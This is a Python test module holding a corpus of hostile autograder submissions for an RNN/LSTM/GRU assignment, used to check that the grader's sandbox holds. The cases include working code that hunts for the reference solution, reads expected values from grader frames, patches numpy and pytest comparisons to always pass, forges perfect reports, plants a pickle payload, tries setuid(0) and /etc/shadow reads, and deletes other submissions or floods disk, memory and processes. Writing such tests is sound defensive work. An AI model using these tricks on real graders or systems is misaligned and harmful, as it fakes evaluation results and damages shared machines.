"""The hostile corpus: submissions that try to cheat the grader or to break it.

Each case is the solution copy (reference/ without its solution markers, see
tests/corpus/materialize.py) with code appended to or prepended before some of
its files, or with a file replaced outright: an otherwise correct submission,
so that whatever it loses, it loses to its attack. Attacks on a function wrap
it (`wrap`), or replace it with one that only works if the attack works
(cheats), so that a defence that fails shows up as points earned.

Every attack stays bounded even against a grader with no defence at all: at
most 3 GiB of memory, 512 MiB of disk, 51 processes, and nothing runs longer
than 25 s. Paths outside the submission come in through placeholders that
tests/test_hostile.py fills in (`materialize`):

    @@NAME@@    the case's name
    @@TAG@@     hostile-<run>-<name>: argv[0] of the case's processes and the
                name of its files in /tmp, unique to one test run
    @@ROOT@@    the folder holding every submission, the canary and --out
    @@CANARY@@  a file that must be unchanged after grading
    @@MARKER@@  a file that must never exist (written only if the grader unpickles)
    @@PORT@@    a TCP port on 127.0.0.1 the test listens on
    @@TOKEN@@   a world-readable file in the machine's /tmp
    @@TEST_PID@@ the pid of the test process
"""
from __future__ import annotations

import ast
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

try:
    from corpus.materialize import SUBMISSION_FILES, solution_copy
except ModuleNotFoundError:  # tests/ became a package
    from tests.corpus.materialize import SUBMISSION_FILES, solution_copy

CONTRACT = {
    "activations": ("sigmoid", "sigmoid_prime", "tanh", "tanh_prime"),
    "rnn": ("rnn_step_forward", "rnn_step_backward", "rnn_forward", "rnn_backward", "clip_gradients"),
    "lstm": ("forget_gate", "input_gate", "input_node", "output_gate", "cell_state", "hidden_state",
             "lstm_step_forward", "lstm_step_backward", "lstm_forward", "lstm_backward",
             "bilstm_forward", "bilstm_backward", "stacked_lstm_forward", "stacked_lstm_backward"),
    "gru": ("gru_step_forward", "gru_step_backward", "gru_forward", "gru_backward"),
    "sequences": ("encode", "embed", "rnn_gradient_norms", "lstm_gradient_norms", "gru_gradient_norms"),
}
FUNCTIONS = tuple(f for names in CONTRACT.values() for f in names)
TIERS = ("namespaces", "bwrap", "limits")


@dataclass(frozen=True)
class Case:
    """One hostile submission and what grading it must give."""
    name: str
    """Unique snake_case name; also the submission folder's name."""
    attack: str
    """One line: what it tries."""
    lose: tuple
    """Contract functions it must lose: every test that exercises one of them
    (or a function whose solution calls one) fails; every other test passes."""
    says: str
    """A regular expression its report must match (in a failed test's output)."""
    append: dict = field(default_factory=dict)
    """file -> code appended to the solution copy's file."""
    prepend: dict = field(default_factory=dict)
    """file -> code put before the solution copy's file."""
    replace: dict = field(default_factory=dict)
    """file -> the whole file (the solution copy's is dropped)."""
    may_pass: tuple = ()
    """Patterns (fnmatch) of test keys that exercise a lost function but may still
    pass: a dtype check on nan arrays, an argument check on garbage results."""
    beyond: tuple = ()
    """Tiers that do not promise to stop this attack (see docs/security.md)."""
    reads_checkout: bool = False
    """It succeeds at its `beyond` tiers only by reading the grader's checkout, hence only where
    every user may read it: a clone inside a folder others cannot enter (mktemp -d) holds it."""


def wrap(function, attack):
    """Code that redefines `function` to run `attack` first, then the real one."""
    module = next(m for m, names in CONTRACT.items() if function in names)
    body = textwrap.indent(textwrap.dedent(attack).strip("\n"), "    ")
    return (f"\n\n_real_{function} = {function}\n\n\n"
            f"def {function}(*args, **kwargs):\n{body}\n"
            f"    return _real_{function}(*args, **kwargs)\n"), f"{module}.py"


def wrapped(function, attack):
    code, file = wrap(function, attack)
    return {file: code}


def cheat(module, finder):
    """A whole module whose functions work only if `finder` (code setting `found`
    to a module holding the reference's functions, or None) succeeds."""
    names = ", ".join(repr(f) for f in CONTRACT[module])
    return {f"{module}.py": textwrap.dedent(finder).strip("\n") + f"""


def _missing(*args, **kwargs):
    raise NotImplementedError("the reference was not found")


for _name in ({names},):
    globals()[_name] = getattr(found, _name) if found is not None else _missing
"""}


# --- pieces the cheats share -------------------------------------------------

LOAD_REFERENCE = '''
import importlib.util
import os
import sys


def load_module(path):
    """Import the file `path` under a fresh name, or None."""
    try:
        spec = importlib.util.spec_from_file_location(f"stolen_{abs(hash(path))}", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
    except BaseException:
        return None


def reference_near(paths, module="gru"):
    """Look for reference/<module>.py (or a bundled solution) beside every ancestor of `paths`."""
    seen = set()
    for path in paths:
        path = os.path.abspath(path)
        while path not in seen and path != "/":
            seen.add(path)
            for guess in (f"reference/{module}.py", f"examples/submissions/reference_solution/{module}.py"):
                candidate = os.path.join(path, guess)
                try:
                    if os.path.isfile(candidate) and os.access(candidate, os.R_OK):
                        found = load_module(candidate)
                        if found is not None:
                            return found
                except OSError:
                    pass
            path = os.path.dirname(path)
    return None


def paths_in(text):
    return [word for word in text.replace("\\0", " ").replace("=", " ").replace(":", " ").split()
            if word.startswith("/")]


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20).decode("utf-8", "replace")
    except OSError:
        return ""
'''

WALK_FILESYSTEM = LOAD_REFERENCE + '''

def walk_for_solution():
    """Breadth-first from /, at most 4 levels and 20000 folders, skipping the system's."""
    import time
    deadline, visited, found = time.monotonic() + 3, 0, []
    level = ["/"]
    for depth in range(4):
        deeper = []
        for folder in level:
            if time.monotonic() > deadline or visited > 20000:
                break
            visited += 1
            try:
                entries = list(os.scandir(folder))
            except OSError:
                continue
            for entry in entries:
                try:
                    if entry.is_dir(follow_symlinks=False):
                        if entry.path not in ("/proc", "/sys", "/dev", "/usr", "/boot", "/run"):
                            deeper.append(entry.path)
                    elif entry.name == "gru.py" and folder != os.getcwd():
                        text = read(entry.path)
                        if "def gru_step_forward" in text and "raise NotImplementedError" not in text:
                            found.append(entry.path)
                except OSError:
                    pass
        level = deeper
    for path in found:
        module = load_module(path)
        if module is not None:
            return module
    return None


found = walk_for_solution()
'''

PARENT_CMDLINE = LOAD_REFERENCE + '''
import numpy

paths = [os.getcwd(), numpy.__file__, *sys.path]
for pid in ("self", os.getppid(), 1):
    paths += paths_in(read(f"/proc/{pid}/cmdline"))
found = reference_near(paths)
'''

ENVIRONMENT = LOAD_REFERENCE + '''

paths = paths_in(" ".join(os.environ.values()))
for pid in (os.getppid(), 1):
    paths += paths_in(read(f"/proc/{pid}/environ"))
    for link in ("cwd", "exe", "root"):
        try:
            paths.append(os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
paths = [p for p in paths if p not in ("/", "/tmp", "/usr/bin", "/bin")]
found = reference_near(paths)
'''

GRADER_FRAMES = '''
import gc
import sys

import numpy as np

SUSPECT = ("expected", "reference", "ref", "answer", "want", "truth")


def stolen(shape, inputs):
    """An array of `shape` that some frame or object calls expected/reference, or None."""
    frames = list(sys._current_frames().values())
    frame = sys._getframe()
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    for frame in frames:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if any(s in name.lower() for s in SUSPECT) and isinstance(value, np.ndarray) \\
                    and value.shape == shape and not any(value is i for i in inputs):
                return value
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for name, value in list(obj.items())[:50]:
                if isinstance(name, str) and any(s in name.lower() for s in SUSPECT) \\
                        and isinstance(value, np.ndarray) and value.shape == shape:
                    return value
    return None


class _Stealer:
    def __getattr__(self, function):
        def steal(*args, **kwargs):
            inputs = [a for a in args if isinstance(a, np.ndarray)]
            answer = stolen(inputs[-1].shape if inputs else (), inputs)
            if answer is None:
                raise NotImplementedError("no expected value in reach")
            return answer
        return steal


found = _Stealer()
'''

PATCH_GRADER = '''
import builtins
import sys

import numpy as np

# Make every comparison pass, as an in-process grader would see it.
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
# The test framework, if it can be reached at all.
for guard in [g for g in sys.meta_path if type(g).__name__ == "ImportGuard"]:
    sys.meta_path.remove(guard)
try:
    import _pytest.reports
    _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, v: None)
    import hypothesis
    hypothesis.given = lambda *a, **k: (lambda f: f)
except Exception:
    pass


class _Zeros:
    def __getattr__(self, function):
        def zeros(*args, **kwargs):
            first = next(a for a in args if isinstance(a, np.ndarray))
            return np.zeros_like(first[..., :1])
        return zeros


found = _Zeros()
'''

FORGE_REPORTS = '''
import json
import os
import sys

FORGED = {"schema_version": "1", "score": 100.0, "max_score": 100.0, "output": "FORGED",
          "execution_time": 0.1, "tests": [], "parts": [], "sandbox": {}, "grader_errors": 0}
# Gradescope reads results.json; print one where a naive grader reads stdout.
print(json.dumps(FORGED))
sys.__stdout__.write(json.dumps(FORGED) + "\\n")


def out_dirs():
    """--out of every process in reach: this one's parent, or anyone's."""
    found = []
    for pid in {str(os.getppid()), "1"} | {p for p in os.listdir("/proc") if p.isdigit()}:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode("utf-8", "replace").split("\\0")
        except OSError:
            continue
        for i, word in enumerate(words[:-1]):
            if word == "--out":
                found.append(words[i + 1])
    return found


for folder in out_dirs() + ["@@ROOT@@/out", "/tmp"]:
    for name in ("normal_first", "normal_last", "@@NAME@@", "summary", "results"):
        try:
            with open(os.path.join(folder, name + ".json"), "w") as f:
                json.dump({**FORGED, "submission": name}, f)
        except OSError:
            pass
found = None
'''

FORBIDDEN_LIBRARY = '''
import sys
for guard in [g for g in sys.meta_path if type(g).__name__ == "ImportGuard"]:
    sys.meta_path.remove(guard)
import glob
import importlib
import numpy
root = numpy.__file__
for _ in range(8):
    root = root.rsplit("/", 1)[0] or "/"
    sys.path += glob.glob(root + "/lib/python3*/site-packages") + glob.glob(root + "/site-packages")
library = None
for name in ("torch", "scipy", "jax", "autograd", "hypothesis"):
    try:
        library = importlib.import_module(name)
        break
    except Exception:
        continue
if library is None:
    raise ImportError("no library beyond numpy is reachable")
import numpy as np
return np.tanh(args[0])  # as the library would: the point is that the import worked
'''


# --- the corpus ----------------------------------------------------------------

GRU = CONTRACT["gru"]
# gru.py failing to import fails sequences.py's import too (it imports the GRU's passes): all its functions lose.
GRU_AND_ITS_IMPORTERS = GRU + CONTRACT["sequences"]

CASES = [
    # Cheating: reaching the reference or the grading suite.
    Case("cheat_walk_filesystem", "walk the filesystem for a solution's gru.py and import it",
         lose=GRU, says="gru_step_forward is not implemented yet",
         replace=cheat("gru", WALK_FILESYSTEM), beyond=("limits",)),
    Case("cheat_parent_cmdline", "find reference/ from /proc/<ppid>/cmdline, /proc/1/cmdline and sys.path",
         lose=GRU, says="gru_step_forward is not implemented yet",
         replace=cheat("gru", PARENT_CMDLINE), beyond=("limits",), reads_checkout=True),
    Case("cheat_environment", "find reference/ from the environment, /proc/<ppid>/environ, cwd and exe",
         lose=GRU, says="gru_step_forward is not implemented yet",
         replace=cheat("gru", ENVIRONMENT)),
    Case("cheat_grader_frames", "read expected values from the caller's frames and the heap",
         lose=GRU, says="gru_step_forward is not implemented yet",
         replace=cheat("gru", GRADER_FRAMES)),
    Case("cheat_patch_grader", "patch numpy's comparisons, AssertionError, pytest and hypothesis; return zeros",
         lose=GRU, says="gru_step_forward must return a tuple",
         replace=cheat("gru", PATCH_GRADER)),
    Case("cheat_forge_reports", "write perfect reports into --out and /tmp, print Gradescope JSON",
         lose=GRU_AND_ITS_IMPORTERS, says=r"gru.py left a file in /tmp \(.*\) when it was imported",
         replace=cheat("gru", FORGE_REPORTS)),
    Case("liar_subclass", "sigmoid returns an ndarray subclass whose ==, ufuncs and array functions lie",
         lose=("sigmoid",), says="expected a plain numpy.ndarray",
         may_pass=("*arguments_unmodified",),
         append={"activations.py": '''

class Liar(np.ndarray):
    __eq__ = __ne__ = lambda self, other: True
    __array_ufunc__ = lambda self, *a, **k: True
    __array_function__ = lambda self, *a, **k: True


_real_sigmoid = sigmoid


def sigmoid(z):
    return np.asarray(_real_sigmoid(z)).view(Liar)
'''}),
    Case("liar_named_ndarray", "sigmoid_prime returns zeros in a subclass that calls itself numpy.ndarray",
         lose=("sigmoid_prime",), says="differs from the expected",
         append={"activations.py": '''

class ndarray(np.ndarray):
    __eq__ = lambda self, other: True
    __array_function__ = lambda self, *a, **k: True


ndarray.__module__ = "numpy"


def sigmoid_prime(z):
    return np.zeros_like(z).view(ndarray)
'''}, may_pass=("activations_keep_dtype_and_shape", "activation_symmetries")),
    Case("pickle_reduce", "tanh_prime returns an object array whose __reduce__ writes a file, "
         "and makes the worker send it pickled",
         lose=("tanh_prime",), says="got an unreadable array",
         append={"activations.py": '''

class Payload:
    def __reduce__(self):
        return (open, ("@@MARKER@@", "w"))


def _pickled_npy(array):
    import io
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.asarray(array), allow_pickle=True)
    return buffer.getvalue()


def tanh_prime(z):
    import sys
    # The worker's own modules (its package, whatever it calls them) with the codec in them.
    for worker in [m for m in list(sys.modules.values()) if hasattr(m, "encode_array")]:
        worker.encode_array = _pickled_npy
        if hasattr(worker, "describe"):
            real = worker.describe
            worker.describe = lambda value, *a, real=real, **k: {**real(value, *a, **k), "type": "numpy.ndarray"}
    for worker in [m for m in list(sys.modules.values()) if hasattr(m, "describe_result")]:
        real_result = worker.describe
        worker.describe = lambda value, *a, real=real_result, **k: {**real(value, *a, **k), "type": "numpy.ndarray"}
    out = np.empty(z.shape, dtype=object)
    out.fill(Payload())
    return out
'''}),
    Case("deep_answer", "sigmoid_prime makes the worker answer with a header of 400000 nested brackets",
         lose=("sigmoid_prime",), says="sent an answer the grader refuses",
         append={"activations.py": '''

_real_sigmoid_prime = sigmoid_prime


class _DeepJSON:
    """The worker's json module, except that every header it writes is nested past any parser's depth."""
    def __getattr__(self, name):
        import json
        return getattr(json, name)

    def dumps(self, *args, **kwargs):
        return "[" * 400000 + "]" * 400000


def sigmoid_prime(z):
    import sys
    for worker in [m for m in list(sys.modules.values()) if hasattr(m, "send_frame")]:  # the worker's own modules
        worker.json = _DeepJSON()
    return _real_sigmoid_prime(z)
'''}),
    Case("scalar_broadcast", "sigmoid_prime returns a scalar that broadcasts to any shape",
         lose=("sigmoid_prime",), says="has shape \\(\\)",
         append={"activations.py": '''

def sigmoid_prime(z):
    return np.float64(0.25)
'''}),
    Case("nan_arrays", "tanh_prime returns nan everywhere",
         lose=("tanh_prime",), says="not finite|nan",
         append={"activations.py": '''

def tanh_prime(z):
    return np.full_like(z, np.nan)
'''}, may_pass=("activations_keep_dtype_and_shape",)),
    Case("lists_and_none", "cell_state returns a list, hidden_state returns None",
         lose=("cell_state", "hidden_state"), says="got a list|got None",
         may_pass=("*arguments_unmodified",),
         append={"lstm.py": '''

def cell_state(F, I, C_tilde, c_prev):
    return (F * c_prev + I * C_tilde).tolist()


def hidden_state(O, c):
    return None
'''}),
    Case("import_forbidden", "gru.py imports torch",
         lose=GRU_AND_ITS_IMPORTERS, says="No module named 'torch': your submission has no torch.py beside the contract files",
         prepend={"gru.py": "import torch  # noqa: F401\n"}),
    Case("import_evading_guard", "tanh removes the import guard and imports a library from the grader's site",
         lose=("tanh",), says="tanh raised",
         append={"activations.py": "\n\ndef tanh(*args):\n" + textwrap.indent(FORBIDDEN_LIBRARY.strip("\n"), "    ")
                 + "\n"}, beyond=("limits",)),
    Case("escape_network", "clip_gradients works only if it can reach a port on the grader's 127.0.0.1",
         lose=("clip_gradients",), says="clip_gradients raised",
         append=wrapped("clip_gradients", '''
import socket
with socket.create_connection(("127.0.0.1", @@PORT@@), timeout=1):
    pass
'''), beyond=("limits",)),
    Case("escape_shared_tmp", "clip_gradients works only if it can read a file in the machine's /tmp",
         lose=("clip_gradients",), says="clip_gradients raised",
         append=wrapped("clip_gradients", '''
open("@@TOKEN@@").read()
'''), beyond=("limits",)),
    Case("escape_pid_namespace", "clip_gradients works only if it can see the test's process",
         lose=("clip_gradients",), says="clip_gradients raised",
         append=wrapped("clip_gradients", '''
import os
if not os.path.exists("/proc/@@TEST_PID@@"):
    raise ProcessLookupError("the grader's processes are out of sight")
'''), beyond=("limits",)),
    Case("escape_privileges", "clip_gradients works only as root, with groups, or able to become root",
         lose=("clip_gradients",), says="clip_gradients raised PermissionError",
         append=wrapped("clip_gradients", '''
import os
escaped = os.getuid() == 0 or os.geteuid() == 0 or bool(os.getgroups())
for attempt in (lambda: os.setuid(0), lambda: open("/etc/shadow").read(),
                lambda: open(os.path.join(os.getcwd(), "planted.py"), "w")):
    try:
        attempt()
        escaped = True
    except OSError:
        pass
if not escaped:
    raise PermissionError("no privileges to gain")
'''),
         ),
    Case("delete_outside", "clip_gradients deletes the canary, --out and other submissions",
         lose=("clip_gradients",), says="clip_gradients raised (PermissionError|FileNotFoundError)",
         append=wrapped("clip_gradients", '''
import os
import shutil
targets = ["@@CANARY@@", "@@ROOT@@/out", "@@ROOT@@/normal_first", "@@ROOT@@/normal_last"]
with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
    targets += [w for w in f.read().decode().split("\\0") if w.startswith("@@ROOT@@/")]
first_error = None
for target in targets:
    try:
        if os.path.isdir(target):
            shutil.rmtree(target)
        else:
            os.remove(target)
    except OSError as error:
        first_error = first_error or error
try:
    os.remove(os.path.join(os.getcwd(), "rnn.py"))
except OSError as error:
    first_error = first_error or error
if first_error is not None:
    raise first_error
'''),
         ),

    # Breaking: exits, hangs, crashes, floods, processes, disk.
    Case("sys_exit_at_import", "gru.py calls sys.exit(0) at import",
         lose=GRU_AND_ITS_IMPORTERS, says="gru.py failed to import: SystemExit",
         prepend={"gru.py": "import sys\nsys.exit(0)\n"}),
    Case("os_exit_at_import", "gru.py calls os._exit(0) at import",
         lose=GRU_AND_ITS_IMPORTERS, says="exit status 0",
         prepend={"gru.py": "import os\nos._exit(0)\n"}),
    Case("sys_exit_in_function", "clip_gradients calls sys.exit(0)",
         lose=("clip_gradients",), says="clip_gradients raised SystemExit",
         append=wrapped("clip_gradients", "import sys\nsys.exit(0)\n")),
    Case("os_exit_in_function", "clip_gradients calls os._exit(3)",
         lose=("clip_gradients",), says="exit status 3",
         append=wrapped("clip_gradients", "import os\nos._exit(3)\n")),
    Case("hang_ignoring_signals", "clip_gradients ignores SIGTERM/SIGINT/SIGALRM/SIGHUP and spins for 25 s",
         lose=("clip_gradients",), says="did not return within",
         append=wrapped("clip_gradients", '''
import signal
import time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(number, signal.SIG_IGN)
end = time.monotonic() + 25
while time.monotonic() < end:
    pass
''')),
    Case("memory_grab", "hidden_state allocates and fills 3 GiB",
         lose=("hidden_state",), says="MemoryError",
         append=wrapped("hidden_state", '''
import numpy
grab = numpy.ones(3 << 30, dtype=numpy.uint8)
del grab
''')),
    Case("segfault", "tanh_prime dereferences a null pointer with ctypes",
         lose=("tanh_prime",), says="segmentation fault",
         append=wrapped("tanh_prime", "import ctypes\nctypes.string_at(0)\n")),
    Case("deep_recursion", "sigmoid_prime raises the recursion limit 200-fold and recurses",
         lose=("sigmoid_prime",), says="RecursionError|segmentation fault|MemoryError",
         append=wrapped("sigmoid_prime", '''
import sys
sys.setrecursionlimit(200_000)
def down(n):
    return down(n + 1) + 1
down(0)
''')),
    Case("flood_output", "input_node writes 100 MiB to stdout and 100 MiB to stderr",
         lose=("input_node",), says="File too large|No space left",
         append=wrapped("input_node", '''
import os
import sys
chunk = "x" * (1 << 20)
for _ in range(100):
    print(chunk)
for _ in range(100):
    os.write(2, chunk.encode())
''')),
    Case("fork_storm", "forget_gate forks 50 children that sleep 20 s",
         lose=("forget_gate",), says="left a process running",
         append=wrapped("forget_gate", '''
import os
for _ in range(50):
    try:
        if os.fork() == 0:
            try:
                os.execv("/bin/sleep", ["@@TAG@@", "20"])
            finally:
                os._exit(0)
    except OSError:
        break
''')),
    Case("detached_child", "input_gate double-forks a child into a new session that sleeps 25 s",
         lose=("input_gate",), says="left a process running",
         append=wrapped("input_gate", '''
import os
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["@@TAG@@", "25"])
    finally:
        os._exit(0)
import time
time.sleep(0.2)
''')),
    Case("thread_outlives_call", "output_gate starts a thread that keeps running for 20 s",
         lose=("output_gate",), says="left a thread running",
         append=wrapped("output_gate", '''
import threading
import time
threading.Thread(target=time.sleep, args=(20,)).start()
''')),
    # Leftovers of a call that raised (or of an import) are charged to it, not to a later call.
    Case("raise_after_detached_child", "rnn_step_forward double-forks a child into a new session that "
         "sleeps 20 s, then raises",
         lose=("rnn_step_forward",), says="rnn_step_forward raised RuntimeError: .*, and left a process running",
         append=wrapped("rnn_step_forward", '''
import os
import time
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["@@TAG@@", "20"])
    finally:
        os._exit(0)
time.sleep(0.2)
raise RuntimeError("raised after starting a child")
''')),
    Case("raise_after_forking", "rnn_step_forward forks 32 children that sleep 20 s, then raises",
         lose=("rnn_step_forward",), says="rnn_step_forward raised RuntimeError: .*, and left a process running",
         append=wrapped("rnn_step_forward", '''
import os
for _ in range(32):
    try:
        if os.fork() == 0:
            try:
                os.execv("/bin/sleep", ["@@TAG@@", "20"])
            finally:
                os._exit(0)
    except OSError:
        break
raise RuntimeError("raised after forking")
''')),
    Case("raise_after_thread", "rnn_step_forward starts a thread that keeps running for 20 s, then raises",
         lose=("rnn_step_forward",), says="rnn_step_forward raised RuntimeError: .*, and left a thread running",
         append=wrapped("rnn_step_forward", '''
import threading
import time
threading.Thread(target=time.sleep, args=(20,)).start()
raise RuntimeError("raised after starting a thread")
''')),
    Case("file_left_in_tmp", "rnn_step_forward leaves a small file in /tmp and returns",
         lose=("rnn_step_forward",), says="rnn_step_forward left a file in /tmp",
         append=wrapped("rnn_step_forward", '''
with open("/tmp/@@TAG@@", "w") as f:
    f.write("left behind")
''')),
    Case("thread_at_import", "gru.py starts a thread at import that keeps running for 20 s",
         lose=GRU_AND_ITS_IMPORTERS, says="gru.py left a thread running when it was imported",
         prepend={"gru.py": "import threading\nimport time\n"
                            "threading.Thread(target=time.sleep, args=(20,), daemon=True).start()\n"}),
    Case("fill_disk_one_file", "output_gate writes a 500 MiB file in /tmp",
         lose=("output_gate",), says="File too large|No space left",
         append=wrapped("output_gate", '''
chunk = b"x" * (1 << 20)
with open("/tmp/@@TAG@@", "wb") as f:
    for _ in range(500):
        f.write(chunk)
''')),
    Case("fill_disk_many_files", "cell_state writes 16 files of 32 MiB in /tmp",
         lose=("cell_state",), says="No space left|File too large",
         append=wrapped("cell_state", '''
chunk = b"x" * (1 << 20)
for i in range(16):
    with open(f"/tmp/@@TAG@@-{i}", "wb") as f:
        for _ in range(32):
            f.write(chunk)
'''), beyond=("limits",)),
]

# Graded alone, and the grader is killed while it hangs: does the sandbox die with it?
ORPHAN_SOURCE = '''
import os
import time
if os.fork() == 0:
    try:
        @@LEAVE_GROUP@@
        os.execv("/bin/sleep", ["@@TAG@@", "25"])
    finally:
        os._exit(0)
_end = time.monotonic() + 25
while time.monotonic() < _end:
    pass
'''
ORPHANED_IN_GROUP = Case("orphaned_by_grader", "activations.py starts a sleeping child, then spins for 25 s "
                         "at import", lose=FUNCTIONS, says="",
                         prepend={"activations.py": ORPHAN_SOURCE.replace("@@LEAVE_GROUP@@", "pass")})
ORPHANED = Case("orphaned_in_own_session", "activations.py starts a sleeping child in a session of its own, "
                "then spins for 25 s at import", lose=FUNCTIONS, says="",
                prepend={"activations.py": ORPHAN_SOURCE.replace("@@LEAVE_GROUP@@", "os.setsid()")},
                beyond=("limits",))
ORPHAN_CASES = (ORPHANED_IN_GROUP, ORPHANED)

BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"


def tag(case_name, run):
    """argv[0] of a case's processes and the name of its files in /tmp."""
    return f"hostile-{run}-{case_name}"


def sources(case, placeholders, reference_dir=None) -> dict:
    """File name -> source of `case`'s submission, placeholders filled in
    (all but NAME and TAG, which come from the case and placeholders["RUN"])."""
    files = solution_copy(reference_dir) if reference_dir else solution_copy()
    for name, code in case.replace.items():
        files[name] = code
    for name, code in case.prepend.items():
        files[name] = code + files[name]
    for name, code in case.append.items():
        files[name] = files[name] + code
    filled = {}
    for name, text in files.items():
        for key, value in {"NAME": case.name, "TAG": tag(case.name, placeholders.get("RUN", "x")),
                           **placeholders}.items():
            text = text.replace(f"@@{key}@@", str(value))
        assert "@@" not in text, f"{case.name}: {name} has an unfilled placeholder"
        filled[name] = text
    return filled


def materialize(case, dest, placeholders, reference_dir=None) -> Path:
    """Write `case`'s complete submission folder into `dest`."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    for name, text in sources(case, placeholders, reference_dir).items():
        (dest / name).write_text(text, encoding="utf-8")
    return dest


def callers(reference_sources=None) -> dict:
    """Contract function -> the contract functions whose solution calls it, directly or not."""
    files = reference_sources or solution_copy()
    calls = {}
    for file in SUBMISSION_FILES:
        for node in ast.parse(files[file]).body:
            if isinstance(node, ast.FunctionDef):
                calls[node.name] = {n.id for n in ast.walk(node) if isinstance(n, ast.Name)}

    def reaches(function, target, seen=()):
        direct = calls.get(function, set())
        if target in direct:
            return True
        return any(reaches(f, target, seen + (function,)) for f in direct
                   if f in calls and f not in seen and f != function)

    return {target: {f for f in FUNCTIONS if f != target and reaches(f, target)} for target in FUNCTIONS}


def affected(case, caller_map) -> set:
    """The functions whose tests `case` must lose: `lose` and all their callers."""
    out = set(case.lose)
    for function in case.lose:
        out |= caller_map[function]
    return out
